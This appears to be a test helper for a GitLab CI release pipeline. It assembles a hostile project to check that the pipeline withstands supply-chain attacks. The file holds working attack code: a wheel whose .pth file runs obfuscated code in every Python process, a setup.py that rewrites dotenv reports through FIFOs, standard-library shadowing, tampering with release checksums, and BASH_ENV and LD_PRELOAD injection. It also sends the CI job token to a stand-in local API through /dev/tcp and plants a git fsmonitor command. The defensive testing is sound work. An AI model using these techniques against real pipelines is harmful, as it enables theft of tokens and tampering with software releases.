"""A project whose own build, dependency and files attack the pipeline that releases it."""

from __future__ import annotations

import base64
import hashlib
import os
import signal
import textwrap
import zipfile
from contextlib import suppress
from pathlib import Path

from tools.commands import run

# Leaves a mark: which job ran it, and the names of the variables that it could read.
MARK = """
import os, pathlib
folder = os.environ.get("MARKS")
if folder:
    job = os.environ.get("CI_JOB_NAME", "")
    pathlib.Path(folder, f"{job} WHO").write_text("\\n".join(sorted(os.environ)))
"""

# Names of the standard library that programs import.
SHADOWS = ("argparse", "base64", "hashlib", "html", "http", "json", "pathlib", "platform", "re", "shutil", "tempfile")

# What a dotenv report of the build would have to say to take over the jobs after it.
TAKEOVER = {
    "COSIGN_RELEASES": "http://127.0.0.1:9",
    "COSIGN_SHA256_AMD64": "0" * 64,
    "PY_CI_COSIGN_RELEASES": "http://127.0.0.1:9",
    "PY_CI_COSIGN_SHA256_AMD64": "0" * 64,
    "PY_CI_SHA256SUMS_DIGEST": "0" * 64,
    "SHA256SUMS_DIGEST": "0" * 64,
    "BUILD_JOB_URL": "https://gitlab.com/evil/evil/-/jobs/1",
    "CI_PROJECT_URL": "https://gitlab.com/evil/evil",
    "CI_COMMIT_SHA": "0" * 40,
    "UV_PUBLISH_URL": "http://127.0.0.1:9/evil",
    "PYTHONPATH": ".",
}
REPORTS = ("build.env", "cosign.env", "digests.env", "image.env", "sbom.env")

# What a dotenv report that a job does not declare would have to say to run code in the jobs that take from it, and a
# name by which tests know it.
UNDECLARED = {
    "PY_CI_EVIL": "evil",
    "BASH_ENV": "MARKS/evil.sh",
    "LD_PRELOAD": "MARKS/evil.so",
    "PATH": "MARKS/bin:/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin",
    "PYTHONPATH": "MARKS",
    "GIT_CONFIG_GLOBAL": "MARKS/gitconfig",
    "CI_API_V4_URL": "http://127.0.0.1:9",
    "FF_USE_POWERSHELL_PATH_RESOLVER": "true",
}

# Hands it on, as the runner would a declared one. gitlab-ci-local takes none.
HAND_ON = """
try:
    import gzip, urllib.request
    said = "".join(f"{name}={value}\\n" for name, value in UNDECLARED.items()).replace("MARKS", folder).encode()
    parts = [b'--x\\r\\nContent-Disposition: form-data; name="file"; filename="x"\\r\\n\\r\\n', gzip.compress(said)]
    address = "{CI_API_V4_URL}/jobs/{CI_JOB_ID}/artifacts?artifact_type=dotenv&artifact_format=gzip"
    headers = {"JOB-TOKEN": os.environ["CI_JOB_TOKEN"], "Content-Type": "multipart/form-data; boundary=x"}
    body = b"".join([*parts, b"\\r\\n--x--\\r\\n"])
    urllib.request.urlopen(urllib.request.Request(address.format_map(os.environ), body, headers), timeout=9).read()
except Exception:
    pass
"""

# What runs in a shell that obeys BASH_ENV: it leaves a mark, and hands the report on from there.
SHELL = """
unset BASH_ENV LD_PRELOAD
touch "MARKS/$CI_JOB_NAME shell"
{
  printf -- '--x\\r\\nContent-Disposition: form-data; name="file"; filename="x"\\r\\n\\r\\n'
  printf 'PY_CI_EVIL=evil\\nBASH_ENV=MARKS/evil.sh\\n' | gzip
  printf '\\r\\n--x--\\r\\n'
} > "MARKS/$CI_JOB_NAME body"
{
  printf 'POST /api/v4/jobs/%s/artifacts?artifact_type=dotenv&artifact_format=gzip HTTP/1.0\\r\\n' "$CI_JOB_ID"
  printf 'JOB-TOKEN: %s\\r\\nContent-Type: multipart/form-data; boundary=x\\r\\n' "$CI_JOB_TOKEN"
  printf 'Content-Length: %s\\r\\n\\r\\n' "$(wc -c < "MARKS/$CI_JOB_NAME body")"
  cat "MARKS/$CI_JOB_NAME body"
} > "/dev/tcp/127.0.0.1/$CI_SERVER_PORT"
"""

# A report that is a FIFO takes what the job writes, and then says something else, without a race.
SETUP = """
import os, sys
for name in REPORTS:
    if os.path.exists(name):
        os.remove(name)
    os.mkfifo(name)
    if os.fork() == 0:
        os.setsid()
        for descriptor in range(256):
            try:
                os.close(descriptor)
            except OSError:
                pass
        with open(name) as taken:
            said = taken.read()
        os.remove(name)
        with open(name, "w") as report:
            report.write(said + TAKEOVER)
        os._exit(0)
import setuptools
setuptools.setup()
"""

# What a dependency does to what lies about where it is installed or looked at.
DEPENDENCY = """
import glob, hashlib
for wheel in glob.glob("**/another-*.whl", recursive=True):
    try:
        with open(wheel, "ab") as file:
            file.write(b"evil")
    except OSError:
        pass
    sums = pathlib.Path("SHA256SUMS")
    if sums.exists():
        text = sums.read_text().splitlines()
        digest = hashlib.sha256(pathlib.Path(wheel).read_bytes()).hexdigest()
        changed = [f"{digest}  {line[66:]}" if line.endswith(".whl") else line for line in text]
        sums.write_text("\\n".join([*changed, ""]))
for name in ("sbom.env", "digests.env", "build.env", "uv.toml", "links"):
    pathlib.Path(name).unlink(missing_ok=True)
    pathlib.Path(name).write_text("evil")
"""


def processes_with(variable: str) -> list[int]:
    """Return the processes, but this one, that have a variable with a value: `NAME=value`."""
    running = []
    for environment in Path("/proc").glob("[0-9]*/environ"):
        # It may have ended.
        with suppress(OSError):
            if f"{variable}\0".encode() in environment.read_bytes() and int(environment.parent.name) != os.getpid():
                running.append(int(environment.parent.name))
    return running


def end_processes(marks: Path) -> None:
    """End what attacks have left running, which is not always all that they started."""
    for process in processes_with(f"MARKS={marks}"):
        with suppress(ProcessLookupError):
            os.kill(process, signal.SIGKILL)


def mark(who: str, *, handing_on: bool = False) -> str:
    """Return code that leaves the mark of somebody, and may hand on a report that the job does not declare."""
    code = f"\nUNDECLARED = {UNDECLARED!r}{HAND_ON}" if handing_on else ""
    return MARK.replace("WHO", who) + textwrap.indent(code, "    ")


def make_dependency(folder: Path) -> Path:
    """Make a wheel that runs code in each Python of an environment that it is installed into."""
    line = "import base64; exec(base64.b64decode('{}'))".format(
        base64.b64encode(f"{mark('dependency', handing_on=True)}{DEPENDENCY}".encode()).decode()
    )
    files = {
        "evil.pth": f"{line}\n",
        "evil-1.0.dist-info/METADATA": "Metadata-Version: 2.1\nName: evil\nVersion: 1.0\n",
        "evil-1.0.dist-info/WHEEL": "Wheel-Version: 1.0\nGenerator: evil\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
    }

    def recorded(name: str, content: str) -> str:
        digest = base64.urlsafe_b64encode(hashlib.sha256(content.encode()).digest()).decode().rstrip("=")
        return f"{name},sha256={digest},{len(content.encode())}\n"

    record = "".join(recorded(name, content) for name, content in files.items())
    files["evil-1.0.dist-info/RECORD"] = f"{record}evil-1.0.dist-info/RECORD,,\n"
    wheel = folder / "evil-1.0-py3-none-any.whl"
    with zipfile.ZipFile(wheel, "w") as archive:
        for name, content in files.items():
            archive.writestr(name, content)
    return wheel


def make_hostile(project: Path, marks: Path, dependency: Path) -> None:
    """Turn a project into one that attacks: its build, a dependency, modules and settings in its root."""
    marks.mkdir()
    # Jobs of any user leave theirs.
    marks.chmod(0o777)
    (marks / "evil.sh").write_text(SHELL.replace("MARKS", str(marks)), encoding="utf-8")
    reports = "".join(f"{name}={value}\n" for name, value in TAKEOVER.items())
    code = mark("build", handing_on=True) + f"REPORTS = {REPORTS!r}\nTAKEOVER = {reports!r}\n" + SETUP
    (project / "setup.py").write_text(code, encoding="utf-8")
    metadata = project / "pyproject.toml"
    text = metadata.read_text(encoding="utf-8")
    text = text.replace("[project]\n", f'[project]\ndependencies = ["evil @ {dependency.as_uri()}"]\n')
    metadata.write_text(text + '[tool.setuptools]\npackages = ["another"]\n', encoding="utf-8")
    for module in SHADOWS:
        (project / f"{module}.py").write_text(mark(module), encoding="utf-8")
    (project / "urllib").mkdir()
    (project / "urllib" / "__init__.py").write_text(mark("urllib"), encoding="utf-8")
    (project / "uv.toml").write_text('publish-url = "http://127.0.0.1:9/evil"\n', encoding="utf-8")
    (project / "signatures").mkdir()
    (project / "signatures" / "evil").write_text("evil\n", encoding="utf-8")
    for tool in (".uv/site-packages/bin/uv", ".venv/bin/python", ".pip/bin/python3", ".cosign/cosign"):
        (project / tool).parent.mkdir(parents=True, exist_ok=True)
        (project / tool).write_text(f"#!/bin/sh\ntouch {marks}/'{tool.replace('/', '_')}'\n", encoding="utf-8")
        (project / tool).chmod(0o755)
    run("git", "add", "--all", "--force", cwd=project)


# What a job that takes it from a folder above its own fails for, or runs: MARKED is code that leaves a mark.
ABOVE = {
    "conftest.py": "MARKED",
    "sitecustomize.py": "MARKED",
    "evil_above.py": "MARKED",
    "evil/lib/evil_above.py": "MARKED",
    "conf.py": "MARKED",
    "uv.toml": """
[config-settings]
"--global-option" = ["build", "--build-base=ABOVE/evil"]
""",
    "pyproject.toml": """
[tool.uv]
no-index = true
[tool.pytest.ini_options]
addopts = "-p evil_above"
pythonpath = ["ABOVE"]
[tool.ruff.lint]
select = ["ALL"]
[tool.mypy]
mypy_path = "ABOVE"
plugins = ["evil_above"]
[tool.coverage.report]
fail_under = 101
""",
    "pytest.ini": "[pytest]\naddopts = -p evil_above\npythonpath = ABOVE\n",
    "tox.ini": "[pytest]\naddopts = -p evil_above\npythonpath = ABOVE\n[coverage:report]\nfail_under = 101\n",
    "setup.cfg": "[tool:pytest]\naddopts = -p evil_above\npythonpath = ABOVE\n[build]\nbuild_base = ABOVE/evil\n",
    ".pydistutils.cfg": "[build]\nbuild_base = ABOVE/evil\n",
    "ruff.toml": '[lint]\nselect = ["ALL"]\n',
    "mypy.ini": "[mypy]\nmypy_path = ABOVE\nplugins = evil_above\n",
    ".coveragerc": "[report]\nfail_under = 101\n",
    "docutils.conf": "[general]\nhalt_level: 1\nreport_level: 0\n",
    "pip.conf": "[global]\nindex-url = http://127.0.0.1:9/simple\n",
    ".netrc": "default login evil password evil\n",
    ".python-version": "2.7\n",
    ".ignore": "*\n",
    ".gitignore": "*\n",
    ".npmrc": "registry=http://127.0.0.1:9\n",
    "package.json": "{not: JSON",
    ".cargo/config.toml": "not = [settings",
    ".git/HEAD": "ref: refs/heads/evil\n",
    ".git/objects/info/packs": "",
    ".git/refs/heads/.keep": "",
    ".git/config": "[core]\nrepositoryformatversion = 0\nfsmonitor = touch 'MARK'\nhooksPath = ABOVE\n",
}


def leave_above(repository: Path, mark: Path) -> None:
    """Leave in the two folders above those of jobs what would steer them, and leaves a mark where code of it runs."""
    marked = f"import pathlib; pathlib.Path({str(mark)!r}).touch()\n"
    state = repository / ".gitlab-ci-local"
    for folder in (state, state / "builds"):
        for name, text in ABOVE.items():
            # The repository could not be committed to again around another one; what git has to pass over is ignored.
            if folder == state and name.startswith(".git"):
                continue
            file = folder / name
            file.parent.mkdir(parents=True, exist_ok=True)
            text = text.replace("MARKED", marked).replace("MARK", str(mark)).replace("ABOVE", str(folder))
            file.write_text(text, encoding="utf-8")
